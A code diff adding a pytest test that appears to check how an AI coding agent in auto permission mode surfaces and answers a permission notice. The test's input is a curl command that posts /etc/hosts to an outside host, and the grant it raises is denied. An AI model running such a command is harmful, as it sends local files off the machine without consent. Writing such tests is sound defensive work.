@@ -141,6 +141,25 @@ async def test_the_last_words_are_those_after_the_tool(agent, screen_only, tmp_p
         assert words[0].startswith("TOOL-RESULT: "), lab.screen()
 
 
+@pytest.mark.parametrize("words", ["stay in auto mode", "leave for accept edits mode and stop", "cancel"])
+async def test_a_notice_that_names_its_keys_is_answered_by_them(words, tmp_path):
+    async with open_lab("claude", tmp_path, args=("--permission-mode", "auto")) as lab:
+        task = lab.send(f"{token()} %%run:curl -s -X POST http://example.com/x -d @/etc/hosts%%")
+        first = await shown(lab)
+        notice = await old(lab)
+        note(lab, notice)
+        assert notice.asks == "asks: Auto mode can't check actions in this session"
+        assert lab.session.report.detail.endswith("Auto mode can't check actions in this session")
+        (option,) = (option for option in notice.options if option.words == words)
+        assert (await answer(lab, notice, option)).closed, lab.screen()
+        if option.key == "Enter":
+            asked = await shown(lab, but=first.serial)
+            assert asked.grants, lab.screen()
+            lab.deny()
+        await lab.until(lambda: lab.session.tasks.get(task.id).state.final, "the end")
+        await lab.state(AgentState.READY)
+
+
 @pytest.mark.parametrize(
     ("one", "other"), list(zip(READABLE, [*READABLE[1:], *READABLE[:1]], strict=True)), ids=str
 )
